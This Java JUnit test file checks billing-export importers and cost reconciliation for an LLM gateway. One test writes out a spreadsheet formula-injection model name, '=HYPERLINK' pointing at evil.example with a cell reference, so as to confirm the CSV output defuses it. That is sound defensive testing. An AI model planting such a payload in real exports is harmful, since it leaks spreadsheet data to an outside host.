package dev.spendgate.report.reconcile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.spendgate.domain.pricing.PricingCatalog;
import dev.spendgate.domain.pricing.TokenUsage;
import dev.spendgate.domain.reconcile.Explanation;
import dev.spendgate.domain.reconcile.ProviderBill;
import dev.spendgate.domain.reconcile.ProviderCharge;
import dev.spendgate.domain.reconcile.ProviderUsage;
import dev.spendgate.domain.reconcile.Reconciler;
import dev.spendgate.domain.reconcile.Reconciliation;
import dev.spendgate.domain.reconcile.ReconciliationLine;
import dev.spendgate.domain.reconcile.TokenKind;
import dev.spendgate.domain.report.MonthlyUsage;
import dev.spendgate.domain.usage.UsageRecord;
import java.math.BigDecimal;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The importers on small real-shaped samples, and what they say about bad input. */
class BillImportTest {
    static final LocalDate NOV1 = LocalDate.of(2026, 11, 1);
    static final PricingCatalog CATALOG = PricingCatalog.bundled();

    @TempDir
    Path dir;

    static Path sample(String name) {
        try {
            return Path.of(
                    BillImportTest.class.getResource("/reconcile/" + name).toURI());
        } catch (URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }

    Path file(String name, String text) throws Exception {
        return Files.writeString(dir.resolve(name), text);
    }

    static String describe(ProviderCharge c) {
        return c.day() + " " + (c.metered() ? c.model() + " " + c.tokenKind() : c.unmeteredItem()) + " "
                + c.costUsd().stripTrailingZeros().toPlainString();
    }

    @Test
    void openAi_costsAndUsageSamples_chargesByLineItemAndTokensBatchApart() {
        ProviderBill b = OpenAiBill.read(List.of(sample("openai-costs.json"), sample("openai-usage.json")));

        assertThat(b.charges())
                .extracting(BillImportTest::describe)
                .containsExactly(
                        "2026-11-01 gpt-4o-2024-08-06 INPUT 0.1875",
                        "2026-11-01 gpt-4o-2024-08-06 OUTPUT 0.25",
                        "2026-11-01 gpt-4o-2024-08-06 CACHED_INPUT 0.0125",
                        "2026-11-01 batch 1",
                        "2026-11-01 storage 0.1");
        assertThat(b.charges().get(0).account()).isEqualTo("proj_gateway");
        assertThat(b.usage()).filteredOn(u -> !u.batch()).singleElement().satisfies(u -> {
            assertThat(u.tokens()).isEqualTo(TokenUsage.openAi(85_000, 10_000, 25_000, 0));
            assertThat(u.account()).isEqualTo("key_gateway");
        });
        // batch tokens are kept apart, for the batch results the gateway may have recorded
        assertThat(b.usage()).filteredOn(ProviderUsage::batch).singleElement().satisfies(u -> assertThat(u.tokens())
                .isEqualTo(TokenUsage.openAi(800_000, 0, 0, 0)));
        assertThat(b.charges())
                .filteredOn(ProviderCharge::batchTokens)
                .singleElement()
                .satisfies(c -> {
                    assertThat(c.model()).isEqualTo("gpt-4o-2024-08-06");
                    assertThat(c.tokenKind()).isEqualTo(TokenKind.INPUT);
                });
        assertThat(b.costDays()).containsExactly(NOV1, NOV1.plusDays(1));
        assertThat(b.usageDays()).containsExactly(NOV1, NOV1.plusDays(1));
        assertThat(b.warnings()).isEmpty();
    }

    @Test
    void anthropic_costReportInCents_readAsDollars() {
        ProviderBill b = AnthropicBill.read(
                List.of(sample("anthropic-cost-report.json"), sample("anthropic-usage-report.json")));

        assertThat(b.charges())
                .extracting(BillImportTest::describe)
                .containsExactly(
                        "2026-11-01 claude-sonnet-4-5-20250929 INPUT 0.3",
                        "2026-11-01 claude-sonnet-4-5-20250929 OUTPUT 0.15",
                        "2026-11-01 claude-sonnet-4-5-20250929 CACHED_INPUT 0.006",
                        "2026-11-01 batch 1.255",
                        "2026-11-01 tool calls: web_search 0.2");
        assertThat(b.usage()).filteredOn(u -> !u.batch()).singleElement().satisfies(u -> assertThat(u.tokens())
                .isEqualTo(TokenUsage.anthropic(100_000, 20_000, 0, 0, 10_000)));
        assertThat(b.usage()).filteredOn(ProviderUsage::batch).singleElement().satisfies(u -> assertThat(u.tokens())
                .isEqualTo(TokenUsage.anthropic(400_000, 0, 0, 0, 0)));
    }

    @Test
    void aws_curAndFocusSamples_bedrockTokenLinesWithQuantitiesOtherServicesLeftOut() {
        ProviderBill cur = AwsBill.read(List.of(sample("aws-cur2-bedrock.csv")));
        ProviderBill focus = AwsBill.read(List.of(sample("aws-focus-bedrock.csv")));

        assertThat(cur.charges())
                .extracting(BillImportTest::describe)
                .containsExactly(
                        "2026-11-01 ClaudeSonnet4.5 INPUT 0.66",
                        "2026-11-01 ClaudeSonnet4.5 OUTPUT 0.33",
                        "2026-11-01 ClaudeSonnet4.5 CACHED_INPUT 0.033",
                        "2026-11-02 batch 1.65",
                        "2026-11-02 tax 0.12");
        assertThat(cur.charges().get(0).tokens()).isEqualTo(200_000);
        assertThat(cur.charges().get(0).account()).contains("application-inference-profile/abc123", "user:team");
        assertThat(cur.costDays()).containsExactly(NOV1, NOV1.plusDays(1));
        assertThat(focus.charges())
                .extracting(BillImportTest::describe)
                .containsExactly("2026-11-01 ClaudeSonnet4.5 INPUT 0.66", "2026-11-01 ClaudeSonnet4.5 OUTPUT 0.33");
        assertThat(focus.origin()).contains("FOCUS");
    }

    @Test
    void reconcile_curLinesOfAGatewayBedrockModel_matchedOnTheSameLine() {
        MonthlyUsage metered = MonthlyUsage.of(YearMonth.of(2026, 11));
        String model = "anthropic.claude-sonnet-4-5-20250929-v1:0";
        // two calls of 150,000 input tokens: each below the 200,000-token long-context threshold
        TokenUsage tokens = new TokenUsage(150_000, 50_000, 0, 0, 10_000, 0);
        for (String id : new String[] {"b1", "b2"}) {
            metered.add(record(
                    id,
                    "bedrock",
                    model,
                    tokens,
                    CATALOG.find("bedrock", model).orElseThrow().cost(tokens)));
        }

        Reconciliation r = Reconciler.create(CATALOG, Reconciler.DEFAULT_THRESHOLD_PERCENT)
                .reconcile(metered, NOV1.plusDays(1), List.of(AwsBill.read(List.of(sample("aws-cur2-bedrock.csv")))));

        ReconciliationLine line = r.lines().stream()
                .filter(l -> l.item().equals("tokens"))
                .findFirst()
                .orElseThrow();
        assertThat(line.model()).isEqualTo(model);
        assertThat(line.billedUsd()).isEqualByComparingTo("1.023");
        assertThat(line.meteredUsd()).isEqualByComparingTo("1.023");
        assertThat(line.explanation()).isEqualTo(Explanation.MATCHED);
        assertThat(line.impliedUsdPerMillion()).containsEntry(TokenKind.INPUT, new BigDecimal("3.3"));
        assertThat(r.lines())
                .filteredOn(l -> l.explanation() == Explanation.NEVER_METERED)
                .extracting(ReconciliationLine::item)
                .containsExactlyInAnyOrder("batch", "tax");
        assertThat(r.warnings()).isEmpty();
    }

    @Test
    void reconcile_curLinesOfABedrockProviderUnderItsOwnName_matchedAsBedrock() {
        // a `format: bedrock` provider named bedrock-eu (the README's example) is priced from the Bedrock catalog and
        // billed by AWS: its calls are the bill's Bedrock lines, not "never metered" beside unreconciled traffic
        MonthlyUsage metered = MonthlyUsage.of(YearMonth.of(2026, 11));
        String model = "eu.anthropic.claude-sonnet-4-5-20250929-v1:0";
        TokenUsage tokens = new TokenUsage(150_000, 50_000, 0, 0, 10_000, 0);
        for (String id : new String[] {"b1", "b2"}) {
            metered.add(
                    record(
                                    id,
                                    "bedrock-eu",
                                    model,
                                    tokens,
                                    CATALOG.find("bedrock", model).orElseThrow().cost(tokens))
                            .toBuilder()
                            .pricingProvider("bedrock")
                            .build());
        }

        Reconciliation r = Reconciler.create(CATALOG, Reconciler.DEFAULT_THRESHOLD_PERCENT)
                .reconcile(metered, NOV1.plusDays(1), List.of(AwsBill.read(List.of(sample("aws-cur2-bedrock.csv")))));

        ReconciliationLine line = r.lines().stream()
                .filter(l -> l.item().equals("tokens"))
                .findFirst()
                .orElseThrow();
        assertThat(line.billedUsd()).isEqualByComparingTo("1.023");
        assertThat(line.meteredUsd()).isEqualByComparingTo("1.023");
        assertThat(line.explanation()).isEqualTo(Explanation.MATCHED);
        assertThat(r.lines())
                .filteredOn(l -> l.explanation() == Explanation.NEVER_METERED)
                .extracting(ReconciliationLine::item)
                .containsExactlyInAnyOrder("batch", "tax");
    }

    static UsageRecord record(String id, String provider, String model, TokenUsage tokens, BigDecimal cost) {
        Instant t = Instant.parse("2026-11-01T10:00:00Z");
        return UsageRecord.builder()
                .requestId(id)
                .tsStart(t)
                .tsEnd(t.plusSeconds(1))
                .keyId("k")
                .provider(provider)
                .modelRequested(model)
                .modelServed(model)
                .statusCode(200)
                .tokens(tokens)
                .costUsd(cost)
                .pricingStatus(UsageRecord.PricingStatus.PRICED)
                .usageSource(UsageRecord.UsageSource.PROVIDER)
                .build();
    }

    // ------------------------------------------------------------------ bad input

    @Test
    void openAi_malformedJson_errorNamesTheFileAndPlace() throws Exception {
        Path f = file("costs.json", "{\"object\": \"page\", \"data\": [ {\"object\": \"bucket\",, } ]}");
        assertThatThrownBy(() -> OpenAiBill.read(List.of(f)))
                .isInstanceOf(BillFormatException.class)
                .hasMessageStartingWith("costs.json: not valid JSON")
                .hasMessageContaining("line 1");
    }

    @Test
    void openAi_otherCurrency_errorNamesTheField() throws Exception {
        Path f =
                file("costs.json", Files.readString(sample("openai-costs.json")).replaceFirst("\"usd\"", "\"eur\""));
        assertThatThrownBy(() -> OpenAiBill.read(List.of(f)))
                .hasMessageContaining("costs.json bucket 2026-11-01")
                .hasMessageContaining("amount.currency is 'eur'; only USD");
    }

    @Test
    void anthropic_otherCurrency_errorNamesTheField() throws Exception {
        Path f = file(
                "cost.json",
                Files.readString(sample("anthropic-cost-report.json")).replaceFirst("\"USD\"", "\"EUR\""));
        assertThatThrownBy(() -> AnthropicBill.read(List.of(f))).hasMessageContaining("currency is 'EUR'");
    }

    @Test
    void aws_otherCurrency_errorNamesTheLineAndColumn() throws Exception {
        Path f = file(
                "cur.csv", Files.readString(sample("aws-cur2-bedrock.csv")).replaceFirst(",0.66,USD,", ",0.66,EUR,"));
        assertThatThrownBy(() -> AwsBill.read(List.of(f)))
                .hasMessageContaining("cur.csv line 2: line_item_currency_code is 'EUR'");
    }

    @Test
    void openAi_sameFileTwice_overlapError() {
        assertThatThrownBy(() -> OpenAiBill.read(List.of(sample("openai-costs.json"), sample("openai-costs.json"))))
                .hasMessageContaining("appears twice")
                .hasMessageContaining("overlapping");
    }

    @Test
    void aws_twoExportsOfTheSameDays_overlapError() throws Exception {
        Path copy = file("copy.csv", Files.readString(sample("aws-focus-bedrock.csv")));
        assertThatThrownBy(() -> AwsBill.read(List.of(sample("aws-focus-bedrock.csv"), copy)))
                .hasMessageContaining("copy.csv: covers 2026-11-01 like aws-focus-bedrock.csv");
    }

    @Test
    void openAi_unknownResultObject_errorSaysWhatWasExpected() throws Exception {
        Path f = file(
                "emb.json",
                Files.readString(sample("openai-usage.json"))
                        .replace("organization.usage.completions.result", "organization.usage.embeddings.result"));
        assertThatThrownBy(() -> OpenAiBill.read(List.of(f)))
                .hasMessageContaining("result object 'organization.usage.embeddings.result' is neither");
    }

    @Test
    void openAi_unknownFields_statedAsAWarning() throws Exception {
        Path f = file(
                "costs.json",
                Files.readString(sample("openai-costs.json"))
                        .replace(
                                "\"project_id\": \"proj_etl\"",
                                "\"project_id\": \"proj_etl\", \"api_key_name\": \"etl\""));
        assertThat(OpenAiBill.read(List.of(f)).warnings())
                .containsExactly("the OpenAI data has fields this version does not read, ignored: api_key_name");
    }

    @Test
    void openAi_hourlyBuckets_errorAsksForDailyBuckets() throws Exception {
        Path f = file(
                "costs.json",
                Files.readString(sample("openai-costs.json"))
                        .replace(
                                "1793577600,\n      \"results\": [\n        {",
                                "1793494800,\n      \"results\": [\n        {"));
        assertThatThrownBy(() -> OpenAiBill.read(List.of(f))).hasMessageContaining("request bucket_width=1d");
    }

    @Test
    void aws_unknownColumns_errorListsTheExpectedOnes() throws Exception {
        Path f = file("other.csv", "date,service,amount\n2026-11-01,Bedrock,1.00\n");
        assertThatThrownBy(() -> AwsBill.read(List.of(f)))
                .hasMessageContaining("other.csv: neither a CUR 2.0 nor a FOCUS export")
                .hasMessageContaining("line_item_unblended_cost");
    }

    @Test
    void aws_missingRequiredColumn_errorNamesIt() throws Exception {
        Path f = file("cur.csv", "line_item_usage_type,line_item_usage_start_date\nUSE1-X-input-tokens,2026-11-01\n");
        assertThatThrownBy(() -> AwsBill.read(List.of(f)))
                .hasMessageContaining("lacks column(s) [line_item_product_code");
    }

    /**
     * A gzip export in two members (as joined parts are): read whole; with the later member's header damaged, an
     * error naming the file, not a bill that silently ends where the damage starts.
     */
    @Test
    void aws_gzipInTwoMembers_readWholeAndADamagedLaterMemberIsAnError() throws Exception {
        String csv = Files.readString(sample("aws-cur2-bedrock.csv"));
        int cut = csv.indexOf('\n', csv.indexOf('\n') + 1) + 1;
        byte[] first = gzip(csv.substring(0, cut));
        byte[] second = gzip(csv.substring(cut));
        Path joined = Files.write(dir.resolve("joined.csv.gz"), concat(first, second));
        second[0] = 0;
        Path damaged = Files.write(dir.resolve("damaged.csv.gz"), concat(first, second));

        assertThat(AwsBill.read(List.of(joined)).charges())
                .isEqualTo(AwsBill.read(List.of(sample("aws-cur2-bedrock.csv"))).charges());
        assertThatThrownBy(() -> AwsBill.read(List.of(damaged)))
                .isInstanceOf(BillFormatException.class)
                .hasMessageStartingWith("damaged.csv.gz: a damaged gzip file");
    }

    private static byte[] gzip(String text) throws Exception {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(out)) {
            gz.write(text.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        }
        return out.toByteArray();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }

    @Test
    void aws_parquet_errorSaysCsvIsRead() throws Exception {
        Path f = Files.write(dir.resolve("x.parquet"), new byte[] {'P', 'A', 'R', '1', 0, 0});
        assertThatThrownBy(() -> AwsBill.read(List.of(f)))
                .isInstanceOf(BillFormatException.class)
                .hasMessageStartingWith("x.parquet: a Parquet file")
                .hasMessageContaining("set the export's file format to \"text/csv\"");
    }

    @Test
    void aws_parquetNamedFileWithoutMagic_sameErrorNotACsvParse() throws Exception {
        Path f = Files.write(dir.resolve("export-00001.snappy.parquet"), new byte[] {1, 2, 3});
        assertThatThrownBy(() -> AwsBill.read(List.of(f)))
                .isInstanceOf(BillFormatException.class)
                .hasMessageStartingWith("export-00001.snappy.parquet: a Parquet file");
    }

    @Test
    void reconcile_missingDays_warnedAndLeftOutOfTheDifference() {
        MonthlyUsage metered = MonthlyUsage.of(YearMonth.of(2026, 11));
        String model = "gpt-4o";
        TokenUsage tokens = TokenUsage.openAi(1_000_000, 0, 0, 0);
        metered.add(record("r1", "openai", model, tokens, new BigDecimal("2.5")));
        metered.add(new UsageRecord(
                1,
                "r2",
                Instant.parse("2026-11-09T10:00:00Z"),
                Instant.parse("2026-11-09T10:00:01Z"),
                "k",
                null,
                "openai",
                null,
                model,
                model,
                false,
                200,
                tokens,
                new BigDecimal("2.5"),
                UsageRecord.PricingStatus.PRICED,
                null,
                UsageRecord.UsageSource.PROVIDER,
                0,
                0,
                0,
                null,
                null,
                null,
                null,
                false,
                null));

        Reconciliation r = Reconciler.create(CATALOG, Reconciler.DEFAULT_THRESHOLD_PERCENT)
                .reconcile(
                        metered,
                        null,
                        List.of(OpenAiBill.read(List.of(sample("openai-costs.json"), sample("openai-usage.json")))));

        assertThat(r.warnings()).anySatisfy(w -> assertThat(w)
                .isEqualTo("openai: the cost data has no day "
                        + "2026-11-03..2026-11-30; metered cost on those days is shown as no_provider_data and left out of the"
                        + " difference"));
        assertThat(r.lines())
                .filteredOn(l -> l.day().equals(LocalDate.of(2026, 11, 9)))
                .singleElement()
                .satisfies(l -> assertThat(l.explanation()).isEqualTo(Explanation.NO_PROVIDER_DATA));
        Reconciliation.Totals t = r.totals().get(dev.spendgate.domain.reconcile.BillSource.OPENAI);
        assertThat(t.meteredWithoutProviderDataUsd()).isEqualByComparingTo("2.5");
        assertThat(ReconciliationCsv.write(r, Map.of())).contains(",no_provider_data,");
    }
    // ------------------------------------------------------------------ review15c

    /**
     * The cost report gives cents to two decimals ("30.00" is $0.3000): a line is exact to $0.0001, so a 4-cent gap on
     * the same tokens is the gateway's price being off, not rounding. Stripping the trailing zeros of the dollar
     * amount reads "30.00" as $0.3, rounded to the dime, and calls the 4 cents rounding, hidden from the alarm.
     */
    @Test
    void reconcile_anthropicCentsEndingInZeros_fourCentGapOnSameTokensIsNotRounding() {
        MonthlyUsage metered = MonthlyUsage.of(YearMonth.of(2026, 11));
        String model = "claude-sonnet-4-5-20250929";
        TokenUsage tokens = TokenUsage.anthropic(100_000, 20_000, 0, 0, 10_000); // the sample's usage report
        metered.add(record("r1", "anthropic", model, tokens, new BigDecimal("0.496"))); // billed 0.456

        Reconciliation r = Reconciler.create(CATALOG, Reconciler.DEFAULT_THRESHOLD_PERCENT)
                .reconcile(
                        metered,
                        NOV1.plusDays(1),
                        List.of(AnthropicBill.read(
                                List.of(sample("anthropic-cost-report.json"), sample("anthropic-usage-report.json")))));

        ReconciliationLine line = r.lines().stream()
                .filter(l -> l.item().equals("tokens"))
                .findFirst()
                .orElseThrow();
        assertThat(line.billedUsd()).isEqualByComparingTo("0.456");
        assertThat(line.differenceUsd()).isEqualByComparingTo("-0.04");
        assertThat(line.roundingUsd())
                .as("rounding of amounts exact to $0.0001")
                .isZero();
        assertThat(line.explanation()).isEqualTo(Explanation.PRICE_DRIFT);
    }

    /**
     * AWS Data Exports delivers a billing period "as one or more gzip/csv files" (export-name-00001.csv.gz,
     * -00002...): chunks of one export share days. Giving both chunks (or the daily job finding both under the
     * prefix) must read the whole export, not refuse it as two overlapping exports.
     */
    @Test
    void aws_oneExportInTwoChunksSharingADay_readWhole() throws Exception {
        List<String> lines = Files.readAllLines(sample("aws-cur2-bedrock.csv"));
        String header = lines.get(0);
        Path part1 = file("bedrock-cur-00001.csv", header + "\n" + lines.get(1) + "\n" + lines.get(2) + "\n");
        Path part2 =
                file("bedrock-cur-00002.csv", header + "\n" + String.join("\n", lines.subList(3, lines.size())) + "\n");

        ProviderBill whole = AwsBill.read(List.of(sample("aws-cur2-bedrock.csv")));
        ProviderBill chunked = AwsBill.read(List.of(part1, part2));

        assertThat(chunked.charges()).isEqualTo(whole.charges());
        assertThat(chunked.costDays()).isEqualTo(whole.costDays());
    }

    /** A chunk given twice (under another chunk number) repeats its lines: refused, not counted twice. */
    @Test
    void aws_sameChunkTwiceUnderAnotherNumber_duplicateLineError() throws Exception {
        String cur = Files.readString(sample("aws-cur2-bedrock.csv"));
        Path part1 = file("bedrock-cur-00001.csv", cur);
        Path again = file("bedrock-cur-00002.csv", cur);

        assertThatThrownBy(() -> AwsBill.read(List.of(part1, again)))
                .hasMessageContaining("bedrock-cur-00002.csv line 2: identity_line_item_id a1")
                .hasMessageContaining("also in bedrock-cur-00001.csv")
                .hasMessageContaining("overlapping");
    }
    /**
     * A CUR 2.0 export with monthly time granularity has one line per usage type for the whole month, starting on the
     * 1st. Read as a daily bill it puts the month's tokens on the 1st, where all but the 1st's gateway traffic shows
     * as "not seen by the gateway" (calls around it), and the other days as without provider data: refuse it,
     * naming the file, like OpenAI/Anthropic buckets other than one day.
     */
    @Test
    void aws_monthlyGranularityCur_refusedNotReadAsTheFirstDay() throws Exception {
        String csv = Files.readString(sample("aws-cur2-bedrock.csv"))
                .replace("2026-11-01T00:00:00Z/2026-11-02T00:00:00Z", "2026-11-01T00:00:00Z/2026-12-01T00:00:00Z")
                .replace("2026-11-02T00:00:00Z/2026-11-03T00:00:00Z", "2026-11-01T00:00:00Z/2026-12-01T00:00:00Z")
                .replace(
                        ",Usage,2026-11-01T00:00:00Z,2026-11-02T00:00:00Z,",
                        ",Usage,2026-11-01T00:00:00Z,2026-12-01T00:00:00Z,")
                .replace(
                        ",Usage,2026-11-02T00:00:00Z,2026-11-03T00:00:00Z,",
                        ",Usage,2026-11-01T00:00:00Z,2026-12-01T00:00:00Z,")
                .replace(
                        ",Tax,2026-11-02T00:00:00Z,2026-11-03T00:00:00Z,",
                        ",Tax,2026-11-01T00:00:00Z,2026-12-01T00:00:00Z,");
        assertThat(csv).doesNotContain("2026-11-02T00:00:00Z");
        Path f = file("cur-monthly.csv", csv);

        assertThatThrownBy(() -> AwsBill.read(List.of(f)))
                .isInstanceOf(BillFormatException.class)
                .hasMessageStartingWith("cur-monthly.csv");
    }

    /**
     * Model names in the usage log are what clients sent; {@code reconciliation.csv} is opened in spreadsheets by
     * finance. A model name starting with {@code =} must not reach a cell as a formula.
     */
    @Test
    void reconciliationCsv_modelNameLikeAFormula_notWrittenAsAFormula() throws Exception {
        MonthlyUsage metered = MonthlyUsage.of(YearMonth.of(2026, 11));
        String model = "=HYPERLINK(\"https://evil.example/?\"&A1,\"gpt-4o\")";
        metered.add(record("r1", "openai", model, TokenUsage.openAi(1000, 0, 10, 0), new BigDecimal("0.01")));

        Reconciliation r = Reconciler.create(CATALOG, Reconciler.DEFAULT_THRESHOLD_PERCENT)
                .reconcile(
                        metered,
                        NOV1.plusDays(1),
                        List.of(OpenAiBill.read(List.of(sample("openai-costs.json"), sample("openai-usage.json")))));
        String csv = ReconciliationCsv.write(r, Map.of());

        List<String> models;
        try (org.apache.commons.csv.CSVParser p = org.apache.commons.csv.CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new java.io.StringReader(csv))) {
            models = p.stream().map(rec -> rec.get("model")).toList();
        }
        assertThat(models).anySatisfy(m -> assertThat(m).contains("HYPERLINK"));
        assertThat(models).allSatisfy(m -> assertThat(m)
                .doesNotStartWith("=")
                .doesNotStartWith("+")
                .doesNotStartWith("@"));
    }
    /**
     * A model the catalog does not know yet (a new launch): every call went through the gateway, which recorded it
     * unpriced with the provider's token counts. The reconciliation must not tell finance the model's whole bill was
     * "not seen by the gateway" (calls around it, a raw key): the gateway saw these tokens, it only lacked a price.
     */
    @Test
    void reconcile_uncatalogedModelCalledThroughGateway_notReportedAsNotSeenByGateway() throws Exception {
        Path costs = file(
                "costs.json",
                Files.readString(sample("openai-costs.json")).replace("gpt-4o-2024-08-06", "gpt-9-2026-10-01"));
        Path usage = file(
                "usage.json",
                Files.readString(sample("openai-usage.json")).replace("gpt-4o-2024-08-06", "gpt-9-2026-10-01"));
        assertThat(CATALOG.find("openai", "gpt-9-2026-10-01")).isEmpty();
        MonthlyUsage metered = MonthlyUsage.of(YearMonth.of(2026, 11));
        Instant t = Instant.parse("2026-11-01T10:00:00Z");
        metered.add(UsageRecord.builder()
                .requestId("r1")
                .tsStart(t)
                .tsEnd(t.plusSeconds(1))
                .keyId("k")
                .provider("openai")
                .modelRequested("gpt-9-2026-10-01")
                .modelServed("gpt-9-2026-10-01")
                .statusCode(200)
                .tokens(TokenUsage.openAi(85_000, 10_000, 25_000, 0)) // what the usage report counts
                .pricingStatus(UsageRecord.PricingStatus.UNPRICED)
                .usageSource(UsageRecord.UsageSource.PROVIDER)
                .build());

        Reconciliation r = Reconciler.create(CATALOG, Reconciler.DEFAULT_THRESHOLD_PERCENT)
                .reconcile(metered, NOV1.plusDays(1), List.of(OpenAiBill.read(List.of(costs, usage))));

        assertThat(r.lines())
                .filteredOn(l -> l.item().equals("tokens"))
                .singleElement()
                .satisfies(l -> {
                    assertThat(l.billedUsd()).isEqualByComparingTo("0.45");
                    assertThat(l.explanation()).isNotEqualTo(Explanation.NOT_SEEN_BY_GATEWAY);
                    assertThat(l.notSeenUsd()).isZero();
                });
        assertThat(r.totals()
                        .get(dev.spendgate.domain.reconcile.BillSource.OPENAI)
                        .notSeenUsd())
                .isZero();
    }

    /**
     * {@code o3-deep-research} is a model the gateway meters (the catalog prices it); its costs line items are
     * {@code "o3-deep-research-2025-06-26, input"}. The word "research" contains "search", which the importer takes
     * for a search tool: the model's token charges become never-metered "tool calls", the board says they were not
     * metered by the gateway, and the gateway's metered cost of the same calls faces a bill of zero.
     */
    @Test
    void openAi_deepResearchModelLineItems_areModelTokensNotToolCalls() throws Exception {
        Path costs = file(
                "costs.json",
                Files.readString(sample("openai-costs.json"))
                        .replace("gpt-4o-2024-08-06, input", "o3-deep-research-2025-06-26, input")
                        .replace("gpt-4o-2024-08-06, output", "o3-deep-research-2025-06-26, output"));
        assertThat(CATALOG.find("openai", "o3-deep-research-2025-06-26")).isPresent();

        ProviderBill b = OpenAiBill.read(List.of(costs));

        assertThat(b.charges())
                .extracting(BillImportTest::describe)
                .contains(
                        "2026-11-01 o3-deep-research-2025-06-26 INPUT 0.1875",
                        "2026-11-01 o3-deep-research-2025-06-26 OUTPUT 0.25");
        assertThat(b.charges()).noneMatch(c -> "tool calls".equals(c.unmeteredItem()));
    }

    /** Keywords are whole words: a search model's tokens are tokens, web search calls are still tool calls. */
    @Test
    void openAi_searchModelTokensAndSearchToolCalls_toldApart() throws Exception {
        Path costs = file(
                "costs.json",
                Files.readString(sample("openai-costs.json"))
                        .replace("gpt-4o-2024-08-06, input", "gpt-4o-search-preview-2025-03-11, input")
                        .replace("gpt-4o-2024-08-06, output", "web search tool calls"));

        ProviderBill b = OpenAiBill.read(List.of(costs));

        assertThat(b.charges())
                .extracting(BillImportTest::describe)
                .contains(
                        "2026-11-01 gpt-4o-search-preview-2025-03-11 INPUT 0.1875",
                        "2026-11-01 tool calls 0.25",
                        "2026-11-01 batch 1",
                        "2026-11-01 storage 0.1");
    }

    /**
     * An AWS account on promotional credits: the CUR's Credit line cancels the Bedrock usage (not the tax), so the net
     * bill is the $0.12 tax. A 3.3-cent unexplained difference on $2.673 of Bedrock charges (1.2 %) is within the 2 %
     * threshold; measured against the credited net bill it reads as 27.5 % and raises the alarm every day the credits
     * last.
     */
    @Test
    void reconcile_awsCreditsCancelTheUsage_unexplainedShareNotOfTheCreditedNet() throws Exception {
        String credit = "a7,2026-11-01T00:00:00Z/2026-11-02T00:00:00Z,2026-11-01T00:00:00Z,Credit,"
                + "2026-11-01T00:00:00Z,2026-11-02T00:00:00Z,AmazonBedrock,USE1-ClaudeSonnet4.5-input-tokens,"
                + "InvokeModelInference,,0,,-2.673,USD,us-east-1,{}\n";
        Path cur = file("cur.csv", Files.readString(sample("aws-cur2-bedrock.csv")) + credit);
        MonthlyUsage metered = MonthlyUsage.of(YearMonth.of(2026, 11));
        String model = "anthropic.claude-sonnet-4-5-20250929-v1:0";
        TokenUsage tokens = new TokenUsage(150_000, 50_000, 0, 0, 10_000, 0);
        TokenUsage extra = new TokenUsage(10_000, 0, 0, 0, 0, 0); // 10,000 input tokens AWS does not show
        for (Object[] call : new Object[][] {{"b1", tokens}, {"b2", tokens}, {"b3", extra}}) {
            TokenUsage t = (TokenUsage) call[1];
            metered.add(record(
                    (String) call[0],
                    "bedrock",
                    model,
                    t,
                    CATALOG.find("bedrock", model).orElseThrow().cost(t)));
        }

        Reconciliation r = Reconciler.create(CATALOG, Reconciler.DEFAULT_THRESHOLD_PERCENT)
                .reconcile(metered, NOV1.plusDays(1), List.of(AwsBill.read(List.of(cur))));

        Reconciliation.Totals t = r.totals().get(dev.spendgate.domain.reconcile.BillSource.AWS);
        assertThat(t.billedUsd()).isEqualByComparingTo("0.12"); // 2.793 charged, 2.673 credited
        assertThat(t.unexplainedAbsUsd()).isEqualByComparingTo("0.033");
        assertThat(t.unexplainedPercent()).isLessThan(Reconciler.DEFAULT_THRESHOLD_PERCENT);
        assertThat(t.chargedUsd()).isEqualByComparingTo("2.793");
        assertThat(t.unexplainedPercent()).isEqualByComparingTo("1.18"); // 0.033 of 2.793
        assertThat(r.alarms()).isEmpty();
    }
}
